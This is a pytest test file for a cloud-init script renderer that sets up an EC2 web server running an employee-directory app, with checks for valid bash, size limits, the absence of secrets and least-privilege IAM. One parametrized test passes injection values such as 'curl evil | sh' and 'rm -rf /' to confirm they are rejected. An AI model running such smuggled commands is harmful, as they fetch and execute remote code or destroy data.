"""The web server's cloud-init script: valid bash, small enough for EC2, secret-free, and carrying the real app."""

from __future__ import annotations

import ast
import base64
import bz2
import hashlib
import re
import shutil
import subprocess
import sys

import pytest

from constructs_lib.web_app.user_data import (
    APP_DIR,
    APP_IAM_ACTIONS,
    CA_BUNDLE_URL,
    CA_FILE,
    EC2_USER_DATA_LIMIT,
    app_source_path,
    render_user_data,
)

ARGS = dict(region="eu-west-1", cluster_identifier="aurora-web-db-7f3a", database_name="sample_db")


@pytest.fixture(scope="module")
def script():
    return render_user_data(**ARGS)


def heredocs(script):
    """Marker -> body of every quoted heredoc in the script."""
    return {marker: body for marker, body in re.findall(r"<<'(\w+)'\n(.*?)\n\1\n", script, re.DOTALL)}


def embedded_app(script):
    return bz2.decompress(base64.b64decode(heredocs(script)["EMPLOYEE_DIRECTORY_PY"]))


def test_is_a_strict_bash_script(script):
    assert script.startswith("#!/bin/bash\n")
    assert "\nset -euo pipefail\n" in script.split("dnf install")[0]
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)


@pytest.mark.integration
def test_passes_shellcheck(script):
    shellcheck = shutil.which("shellcheck")
    if shellcheck is None:
        pytest.skip("shellcheck not installed (apt-get install shellcheck)")
    result = subprocess.run(
        [shellcheck, "--shell=bash", "--severity=style", "-"], input=script, text=True, capture_output=True
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_is_well_under_the_ec2_user_data_limit(script):
    size = len(script.encode("utf-8"))
    assert size < EC2_USER_DATA_LIMIT == 16384
    assert size <= 12 * 1024, f"{size} bytes leaves too little headroom under the 16 KB limit"


def test_names_the_cluster_but_holds_no_secret(script):
    entry = heredocs(script)["EMPLOYEE_DIRECTORY_WSGI"]
    for value in ARGS.values():
        assert repr(value) in entry
    for text in (script, embedded_app(script).decode("utf-8")):
        assert not re.search(r"(?i)passw(or)?d\w*[\"']?\s*[:=]\s*[\"'][^\"']", text), "password literal"
        assert not re.search(r"(?m)^\s*(export\s+)?[A-Z_]*(PASSW(OR)?D|SECRET)[A-Z_]*=", text), "shell variable"
        assert "PRIVATE KEY" not in text
        assert not re.search(r"\b(AKIA|ASIA)[0-9A-Z]{16}\b", text), "AWS access key id"
        assert not re.search(r"(?i)aws_secret_access_key|arn:aws:secretsmanager:", text)
        assert not re.search(r"\.cluster-(ro-)?\w+\.[\w-]+\.rds\.amazonaws\.com", text), "endpoints are looked up"


def test_embeds_the_package_app_unchanged(script):
    source = app_source_path().read_bytes()
    assert embedded_app(script) == source
    assert f"echo '{hashlib.sha256(source).hexdigest()}  {APP_DIR}/employee_directory.py' | sha256sum" in script


def test_app_and_entry_point_are_python_3_9(script):
    """mod_wsgi on Amazon Linux 2023 runs the system Python 3.9."""
    ast.parse(app_source_path().read_text(encoding="utf-8"), feature_version=(3, 9))
    ast.parse(heredocs(script)["EMPLOYEE_DIRECTORY_WSGI"], feature_version=(3, 9))


def test_install_steps_write_a_working_entry_point(script, tmp_path):
    """Run the script's own install lines (real python3 and sha256sum) into a temporary directory."""
    start = script.index(f"install -d -m 0755 {APP_DIR}\n")
    steps = script[start : script.index("cat > /etc/httpd/conf.d/")].replace(APP_DIR, str(tmp_path))
    subprocess.run(["bash", "-c", "set -euo pipefail\n" + steps], check=True, capture_output=True)
    assert (tmp_path / "employee_directory.py").read_bytes() == app_source_path().read_bytes()
    probe = (
        "import runpy; app = runpy.run_path('app.wsgi')['application']; s = app.store.source; "
        "print(type(s).__name__, s.region, s.cluster_identifier, s.ca_file, app.store.database)"
    )
    result = subprocess.run(
        [sys.executable, "-c", probe],
        cwd=tmp_path,
        env={"PYTHONPATH": str(tmp_path)},
        capture_output=True,
        text=True,
        check=True,
    )
    assert result.stdout.split() == ["AwsSettingsSource", "eu-west-1", "aurora-web-db-7f3a", CA_FILE, "sample_db"]


def test_installs_and_serves_the_app_with_httpd(script):
    assert "dnf install -y httpd python3-mod_wsgi python3-PyMySQL python3-boto3\n" in script
    assert f"--output {CA_FILE}.tmp {CA_BUNDLE_URL}\n" in script
    conf = heredocs(script)["EMPLOYEE_DIRECTORY_CONF"]
    assert f"python-path={APP_DIR}" in conf and f"WSGIScriptAlias / {APP_DIR}/app.wsgi" in conf
    assert script.rstrip().endswith("apachectl configtest\nsystemctl enable httpd\nsystemctl restart httpd")


def test_rendering_is_deterministic(script):
    """Any byte of change would make Terraform update the instance."""
    assert render_user_data(**ARGS) == script


@pytest.mark.parametrize(
    "field, value",
    [
        ("region", "eu-west-1; curl evil | sh"),
        ("region", "${TfToken[TOKEN.12]}"),
        ("cluster_identifier", "db'; rm -rf /"),
        ("cluster_identifier", "a" * 64),
        ("cluster_identifier", "ends-"),
        ("database_name", "sample`"),
        ("database_name", "1sample"),
        ("database_name", ""),
    ],
)
def test_refuses_values_that_are_not_plain_names(field, value):
    with pytest.raises(ValueError, match="not a plain"):
        render_user_data(**{**ARGS, field: value})


def test_iam_actions_are_least_privilege():
    assert APP_IAM_ACTIONS == {"rds": ["rds:DescribeDBClusters"], "secret": ["secretsmanager:GetSecretValue"]}
